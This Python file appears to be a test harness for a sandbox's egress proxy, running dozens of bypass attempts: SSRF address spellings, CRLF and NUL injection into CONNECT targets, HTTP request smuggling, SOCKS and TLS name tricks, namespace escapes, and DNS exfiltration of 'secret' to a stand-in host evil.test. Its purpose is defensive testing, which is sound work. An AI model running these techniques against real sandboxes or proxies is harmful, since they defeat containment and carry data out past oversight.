"""Ways to reach a host that is not listed, as a program that runs inside the sandbox: `python attacker.py`, told by `facts.json`.

Each is a function that gives a true value where it got what it must not get: the word of the trap, or what only somebody
outside can say. It prints a line for each. It imports nothing but the standard library.
"""

import ctypes
import errno
import json
import os
import select
import socket
import ssl
import struct
import sys
import urllib.request

FACTS = {}
if __name__ == "__main__":
    with open("facts.json") as file:
        FACTS = json.load(file)
GOOD, TLS, TRAP, TRAP6, OUTSIDE, ABSTRACT, PATH = (
    FACTS.get(name, 0) for name in ("good", "tls", "trap", "trap6", "outside", "abstract", "path")
)
PROXY = ("127.0.0.1", 3128)
WORD = b"TRAPPED"
LIBC = ctypes.CDLL(None, use_errno=True)
ATTACKS = {}


def attack(function):
    ATTACKS[function.__name__] = function
    return function


def read_all(sock, seconds=5.0):
    sock.settimeout(seconds)
    data = b""
    try:
        while len(data) < 100_000 and (more := sock.recv(65536)):
            data += more
    except OSError:
        pass
    return data


def proxied(*pieces, seconds=5.0):
    """What the proxy answers to some bytes."""
    with socket.create_connection(PROXY, 5) as sock:
        try:
            for piece in pieces:
                sock.sendall(piece)
            sock.shutdown(socket.SHUT_WR)
        except OSError:
            pass
        return read_all(sock, seconds)


def connect(target):
    """Ask for a tunnel, and send a request through it without waiting for an answer."""
    target = target if isinstance(target, bytes) else target.encode()
    return WORD in proxied(b"CONNECT " + target + b" HTTP/1.1\r\nHost: x\r\n\r\n", b"GET / HTTP/1.0\r\n\r\n")


def tunnel(target):
    sock = socket.create_connection(PROXY, 5)
    sock.sendall(f"CONNECT {target} HTTP/1.1\r\nHost: {target}\r\n\r\n".encode())
    head = b""
    while b"\r\n\r\n" not in head and (more := sock.recv(1)):
        head += more
    assert b" 200 " in head, head
    return sock


def socks(command, kind, address, port=None):
    sent = bytes((5, command, 0, kind)) + address + struct.pack(">H", TRAP if port is None else port)
    return WORD in proxied(b"\x05\x01\x00", sent, b"GET / HTTP/1.0\r\n\r\n")


def direct(family, address, kind=socket.SOCK_STREAM):
    with socket.socket(family, kind) as sock:
        sock.settimeout(3)
        sock.connect(address)
        sock.sendall(b"GET / HTTP/1.0\r\n\r\n")
        return WORD in read_all(sock, 3)


# -- past the proxy


@attack
def tcp_to_loopback():
    return direct(socket.AF_INET, ("127.0.0.1", TRAP))


@attack
def tcp_to_loopback_6():
    return direct(socket.AF_INET6, ("::1", TRAP6))


@attack
def tcp_to_the_hosts_own_address():
    return direct(socket.AF_INET, (OUTSIDE, TRAP))


@attack
def tcp_to_a_mapped_address():
    return direct(socket.AF_INET6, (f"::ffff:{OUTSIDE}", TRAP))


@attack
def udp_to_the_hosts_own_address():
    return direct(socket.AF_INET, (OUTSIDE, TRAP), socket.SOCK_DGRAM)


@attack
def tcp_fast_open():
    with socket.socket() as sock:
        sock.sendto(b"GET / HTTP/1.0\r\n\r\n", 0x20000000, (OUTSIDE, TRAP))
        return WORD in read_all(sock, 3)


@attack
def dns_by_the_systems_resolver():
    return bool(socket.getaddrinfo("c2VjcmV0.evil.test", 80))


@attack
def dns_by_hand():
    question = b"\x12\x34\x01\0\0\x01\0\0\0\0\0\0\x06secret\x04evil\x04test\0\0\x01\0\x01"
    with socket.socket(socket.AF_INET, socket.SOCK_DGRAM) as sock:
        sock.settimeout(2)
        sock.sendto(question, ("8.8.8.8", 53))
        return sock.recv(512)


@attack
def ping():
    with socket.socket(socket.AF_INET, socket.SOCK_DGRAM, socket.IPPROTO_ICMP) as sock:
        sock.settimeout(2)
        sock.sendto(b"\x08\0\xf7\xff\0\0\0\0", ("1.1.1.1", 0))
        return sock.recv(512)


@attack
def raw_packets():
    return socket.socket(socket.AF_PACKET, socket.SOCK_RAW, socket.htons(3))


@attack
def raw_ip():
    return socket.socket(socket.AF_INET, socket.SOCK_RAW, socket.IPPROTO_TCP)


@attack
def sockets_of_virtual_machines():
    return socket.socket(socket.AF_VSOCK, socket.SOCK_STREAM)


@attack
def an_abstract_socket_of_the_host():
    return direct(socket.AF_UNIX, "\0" + ABSTRACT)


@attack
def a_socket_of_the_host_by_its_path():
    return direct(socket.AF_UNIX, PATH)


@attack
def io_uring():
    ring = LIBC.syscall(425, 4, ctypes.create_string_buffer(120))
    return ring >= 0 or ctypes.get_errno() not in (errno.EPERM, errno.ENOSYS)


@attack
def another_network_namespace():
    return LIBC.unshare(0x40000000) == 0 or LIBC.unshare(0x50000000) == 0


@attack
def the_namespace_of_another_process():
    return any(
        LIBC.setns(os.open(f"/proc/{pid}/ns/net", os.O_RDONLY), 0x40000000) == 0
        for pid in os.listdir("/proc")
        if pid.isdigit()
    )


@attack
def a_route_of_its_own():
    address = struct.pack("<H2s4s8x", socket.AF_INET, b"", b"\0\0\0\0")
    entry = struct.pack("L16s16s16sH", 0, address, address, address, 1).ljust(120, b"\0")
    with socket.socket(socket.AF_INET, socket.SOCK_DGRAM) as sock:
        import fcntl

        return fcntl.ioctl(sock, 0x890B, entry) is not None


@attack
def an_interface_of_its_own():
    link = struct.pack("<HH4s", 8, 3, b"out\0") + struct.pack("<HHHH", 16, 18, 12, 1) + b"dummy\0\0\0"
    body = struct.pack("<BBHiII", 0, 0, 0, 0, 1, 1) + link
    head = struct.pack("<IHHII", 16 + len(body), 16, 0x605, 1, 0)
    with socket.socket(socket.AF_NETLINK, socket.SOCK_RAW, 0) as sock:
        sock.settimeout(2)
        sock.send(head + body)
        return struct.unpack("<i", sock.recv(4096)[16:20])[0] == 0


@attack
def a_descriptor_that_was_left():
    return [
        fd
        for fd in map(int, os.listdir("/proc/self/fd"))
        if fd > 2 and os.path.exists(f"/proc/self/fd/{fd}") and os.readlink(f"/proc/self/fd/{fd}").startswith("socket:")
    ]


@attack
def the_proxys_own_socket():
    """It listens in this namespace, and belongs to nobody in here: it cannot be taken away to listen in its place."""
    with socket.socket() as sock:
        sock.setsockopt(socket.SOL_SOCKET, socket.SO_REUSEADDR, 1)
        sock.setsockopt(socket.SOL_SOCKET, socket.SO_REUSEPORT, 1)
        sock.bind(PROXY)
        sock.listen()
        return FACTS["listed"]


# -- other spellings of an address


SPELLINGS = {
    "an_address": f"127.0.0.1:{TRAP}",
    "an_address_6": f"[::1]:{TRAP6}",
    "a_mapped_address": f"[::ffff:127.0.0.1]:{TRAP}",
    "a_mapped_address_in_hexadecimal": f"[::ffff:7f00:1]:{TRAP}",
    "a_compatible_address": f"[::127.0.0.1]:{TRAP}",
    "a_decimal_address": f"2130706433:{TRAP}",
    "an_octal_address": f"0177.0.0.1:{TRAP}",
    "a_hexadecimal_address": f"0x7f.0.0.1:{TRAP}",
    "a_short_address": f"127.1:{TRAP}",
    "a_dotted_address": f"127.0.0.1.:{TRAP}",
    "a_wide_address": f"\uff11\uff12\uff17.0.0.1:{TRAP}",
    "any_address": f"0.0.0.0:{TRAP}",
    "any_address_6": f"[::]:{TRAP6}",
    "an_address_behind_nat64": f"[64:ff9b::7f00:1]:{TRAP}",
    "an_address_in_6to4": f"[2002:7f00:1::]:{TRAP}",
    "an_address_with_a_zone": f"[::1%lo]:{TRAP6}",
    "the_hosts_own_address": f"{OUTSIDE}:{TRAP}",
    "another_port": f"good.test:{TRAP}",
    "no_port": "good.test",
    "a_port_too_large": f"good.test:{TRAP + 65536}",
    "a_name_that_is_not_listed": f"evil.test:{TRAP}",
    "a_name_that_ends_otherwise": f"good.test.evil.test:{TRAP}",
    "a_name_that_begins_otherwise": f"notgood.test:{TRAP}",
    "a_name_with_a_user": f"good.test@127.0.0.1:{TRAP}",
    "a_name_with_a_user_and_a_port": f"good.test:{GOOD}@127.0.0.1:{TRAP}",
    "a_name_with_a_slash": f"good.test:{GOOD}/../127.0.0.1:{TRAP}",
    "a_name_with_a_fragment": f"127.0.0.1:{TRAP}#good.test:{GOOD}",
    "a_name_with_two_ports": f"127.0.0.1:{TRAP}:{GOOD}",
    "the_local_host": f"localhost:{TRAP}",
    "what_a_name_leads_to": f"rebind.test:{TRAP}",
    "what_a_name_leads_to_among_others": f"mixed.test:{TRAP}",
    "what_a_name_leads_to_in_6": f"mapped.test:{TRAP}",
    "secrets_in_a_name": f"c2VjcmV0.evil.test:{TRAP}",
}
for name, target in SPELLINGS.items():
    ATTACKS[f"connect_to_{name}"] = lambda target=target: connect(target)


@attack
def connect_to_a_name_with_a_nul():
    return connect(b"127.0.0.1:%d\0.good.test:%d" % (TRAP, GOOD))


@attack
def connect_to_a_name_with_a_line():
    return connect(b"good.test:%d HTTP/1.1\r\nHost: x\r\n\r\nCONNECT 127.0.0.1:%d" % (GOOD, TRAP))


# -- SOCKS


@attack
def socks_to_an_address():
    return socks(1, 1, b"\x7f\0\0\1")


@attack
def socks_to_an_address_6():
    return socks(1, 4, b"\0" * 15 + b"\1", TRAP6)


@attack
def socks_to_a_mapped_address():
    return socks(1, 4, b"\0" * 10 + b"\xff\xff\x7f\0\0\1")


@attack
def socks_to_a_name():
    return socks(1, 3, b"\x09evil.test")


@attack
def socks_to_an_address_as_a_name():
    return socks(1, 3, b"\x09127.0.0.1") or socks(1, 3, b"\x0a2130706433")


@attack
def socks_bind():
    return socks(2, 1, b"\x7f\0\0\1")


@attack
def socks_udp():
    return proxied(b"\x05\x01\x00", b"\x05\x03\x00\x01\0\0\0\0\0\0")[2:4] == b"\x05\x00"


@attack
def socks_4():
    return WORD in proxied(b"\x04\x01" + struct.pack(">H", TRAP) + b"\x7f\0\0\1\0", b"GET / HTTP/1.0\r\n\r\n")


# -- plain HTTP


def get(target, host, *more):
    lines = [f"GET {target} HTTP/1.1", f"Host: {host}", *more, "", ""]
    return "\r\n".join(lines).encode()


@attack
def get_an_address():
    return WORD in proxied(get(f"http://127.0.0.1:{TRAP}/", f"127.0.0.1:{TRAP}"))


@attack
def get_by_the_header():
    return WORD in proxied(get("/", f"127.0.0.1:{TRAP}"))


@attack
def get_with_another_header():
    return WORD in proxied(get(f"http://good.test:{GOOD}/host", f"evil.test:{TRAP}"))


@attack
def get_with_two_headers():
    return b"evil.test" in proxied(get(f"http://good.test:{GOOD}/host", f"good.test:{GOOD}", f"Host: evil.test:{TRAP}"))


@attack
def get_with_a_user():
    return WORD in proxied(get(f"http://good.test:{GOOD}@127.0.0.1:{TRAP}/", f"127.0.0.1:{TRAP}"))


@attack
def get_with_a_backslash():
    return WORD in proxied(get(f"http://127.0.0.1:{TRAP}\\@good.test:{GOOD}/", f"good.test:{GOOD}"))


@attack
def get_another_scheme():
    return any(
        WORD in proxied(get(f"{scheme}://127.0.0.1:{TRAP}/", f"127.0.0.1:{TRAP}"))
        for scheme in ("https", "ftp", "file", "ws")
    )


@attack
def a_second_request():
    first = get(f"http://good.test:{GOOD}/", f"good.test:{GOOD}")
    return WORD in proxied(first, get(f"http://127.0.0.1:{TRAP}/", f"127.0.0.1:{TRAP}"))


@attack
def a_second_request_for_the_same_connection():
    first = get(f"http://good.test:{GOOD}/", f"good.test:{GOOD}")
    return b"evil.test" in proxied(first, get("/host", "evil.test"))


def smuggled(*headers, body=b"", seconds=5.0):
    hidden = get("/host", "evil.test")
    head = get(f"http://good.test:{GOOD}/", f"good.test:{GOOD}", *headers).replace(b"GET", b"POST", 1)
    return b"evil.test" in proxied(head + body + hidden, seconds=seconds)


@attack
def smuggle_by_two_lengths():
    return smuggled("Content-Length: 4", "Transfer-Encoding: chunked", body=b"0\r\n\r\n")


@attack
def smuggle_by_lengths_that_differ():
    return smuggled("Content-Length: 0", "Content-Length: 60")


@attack
def smuggle_by_an_odd_encoding():
    return any(
        smuggled(f"Transfer-Encoding{colon} {value}", "Content-Length: 0", body=b"0\r\n\r\n")
        for colon in (":", " :", "\t:")
        for value in ("chunked, identity", "xchunked", "\x0bchunked", "chunked\r\nTransfer-Encoding: x")
    )


@attack
def smuggle_by_a_bare_newline():
    # To the listed server what comes is one head that has not ended: it answers nothing.
    return smuggled("X: y\n\nGET /host HTTP/1.1\nHost: evil.test\n\n", seconds=0.5)


@attack
def smuggle_by_a_chunk():
    return smuggled("Transfer-Encoding: chunked", body=b"1;a=\n0\r\nx\r\n0\r\n\r\n")


@attack
def smuggle_by_connection():
    return smuggled("Connection: close, content-length, host", "Content-Length: 0")


@attack
def a_redirect():
    with urllib.request.urlopen(f"http://good.test:{GOOD}/redirect?to=http://127.0.0.1:{TRAP}/", timeout=5) as answer:
        return WORD in answer.read()


@attack
def a_websocket():
    upgrade = ("Upgrade: websocket", "Connection: Upgrade", "Sec-WebSocket-Key: AAAAAAAAAAAAAAAAAAAAAA==")
    return WORD in proxied(get(f"http://127.0.0.1:{TRAP}/", f"127.0.0.1:{TRAP}", *upgrade))


@attack
def an_upgrade_that_hides_what_follows():
    upgrade = ("Upgrade: websocket", "Connection: Upgrade")
    return b"evil.test" in proxied(
        get(f"http://good.test:{GOOD}/switch", f"good.test:{GOOD}", *upgrade), get("/host", "evil.test")
    )


# -- TLS


def tls(name, *, target=f"good.test:{TLS}", piece=1 << 20):
    """Whether a handshake for a name goes on; `piece` is how many bytes are sent at a time."""
    context = ssl.SSLContext(ssl.PROTOCOL_TLS_CLIENT)
    context.check_hostname, context.verify_mode = False, ssl.CERT_NONE
    incoming, outgoing = ssl.MemoryBIO(), ssl.MemoryBIO()
    client = context.wrap_bio(incoming, outgoing, server_hostname=name)
    with tunnel(target) as sock:
        sock.settimeout(5)
        sock.setsockopt(socket.IPPROTO_TCP, socket.TCP_NODELAY, 1)
        while True:
            try:
                client.do_handshake()
                return True
            except ssl.SSLWantReadError:
                data = outgoing.read()
                for at in range(0, len(data), piece):
                    sock.sendall(data[at : at + piece])
                more = sock.recv(65536)
                if not more:
                    return False
                incoming.write(more)


@attack
def tls_for_another_name():
    return tls("evil.test")


@attack
def tls_for_a_name_below():
    return tls("a.good.test")


@attack
def tls_for_another_name_in_pieces():
    return tls("evil.test", piece=7)


@attack
def tls_without_a_name():
    return tls(None)


@attack
def tls_for_another_name_by_socks():
    context = ssl.SSLContext(ssl.PROTOCOL_TLS_CLIENT)
    context.check_hostname, context.verify_mode = False, ssl.CERT_NONE
    with socket.create_connection(PROXY, 5) as sock:
        sock.sendall(b"\x05\x01\x00" + b"\x05\x01\x00\x03\x09good.test" + struct.pack(">H", TLS))
        while len(head := sock.recv(12, socket.MSG_PEEK)) < 12 and head:
            pass
        sock.recv(12)
        with context.wrap_socket(sock, server_hostname="evil.test"):
            return True


@attack
def tls_of_old():
    hello = b"\x80\x2e\x01\x03\x01\x00\x15\x00\x00\x00\x10" + b"\x01\x00\x80" * 7 + b"x" * 16
    with tunnel(f"good.test:{TLS}") as sock:
        sock.sendall(hello)
        return read_all(sock)[:1] not in (b"", b"\x15")


# -- too much


@attack
def a_head_without_end():
    head = get(f"http://good.test:{GOOD}/", f"good.test:{GOOD}")[:-2]
    return b" 200 " in proxied(head + b"X: " + b"y" * 1_000_000 + b"\r\n\r\n")


@attack
def many_heads_that_do_not_end():
    held = []
    try:
        for _ in range(150):
            sock = socket.create_connection(PROXY, 5)
            sock.sendall(b"CONNECT 127.0.0.1:")
            held.append(sock)
        return connect(f"127.0.0.1:{TRAP}") or bool(select.select(held, [], [], 0)[0])
    finally:
        for sock in held:
            sock.close()


def main():
    wanted = sys.argv[1:] or ATTACKS
    for name in wanted:
        try:
            got = ATTACKS[name]()
        except (OSError, ssl.SSLError, AssertionError) as error:
            print(f"held {name}: {error!r}"[:200])
        else:
            print(f"{'ESCAPED' if got else 'held'} {name}")
    if not FACTS["listed"]:
        return
    # After all of this the proxy still does what it is for.
    print("GOOD" if b"welcome" in proxied(get(f"http://good.test:{GOOD}/", f"good.test:{GOOD}")) else "BAD")
    print("TLS" if tls("Good.test") else "NO TLS")


if __name__ == "__main__":
    main()
